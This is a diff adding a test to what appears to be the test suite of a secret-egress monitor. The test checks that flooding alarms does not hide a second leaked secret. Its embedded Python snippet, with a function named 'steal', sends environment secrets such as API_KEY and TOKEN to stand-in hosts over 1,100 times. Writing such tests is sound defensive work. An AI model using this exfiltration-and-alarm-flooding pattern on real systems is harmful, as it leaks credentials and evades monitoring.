@@ -175,6 +175,20 @@ def a_placeholder_for_another_host_is_an_alarm(session):
     assert requests(session)[-1][2]["authorization"] == f"Bearer {OTHER}", done
 
 
+@test
+def no_number_of_alarms_hides_that_of_another_secret(session):
+    code = RAW + r"""
+def steal(value, host): return b" 403 " in ask(f"GET / HTTP/1.1\r\nHost: {host}\r\nx: {value}\r\n\r\n".encode(), host)
+print(all([steal(os.environ["API_KEY"], "other.test") for _ in range(1100)]), steal(os.environ["TOKEN"], "allowed.test"))
+"""
+    rules = [*RULES, "connect other.test", "secret TOKEN to other.test"]
+    done = session.run(rules, "/usr/bin/python3", "-c", code, env=caller(session, TOKEN=OTHER), timeout=100)
+    assert done.out == "True True\n", done
+    told = [(event["name"], event["host"]) for event in session.events("secret-misused")]
+    assert told[-1] == ("TOKEN", "allowed.test") and 1000 < len(told) < 1100, (len(told), told[-1])  # the control: there is a limit
+    assert sum(event.get("lost", 0) for kind in ("name", "connected", "secret-misused") for event in session.events(kind)) > 50
+
+
 def refused_server(session, port, problem):
     rules = [f"connect allowed.test:{port}", f"secret API_KEY to allowed.test:{port}"]
     done = curl(session, f'-w "%{{http_code}}" -H "x-api-key: $API_KEY" https://allowed.test:{port}/', rules=rules)
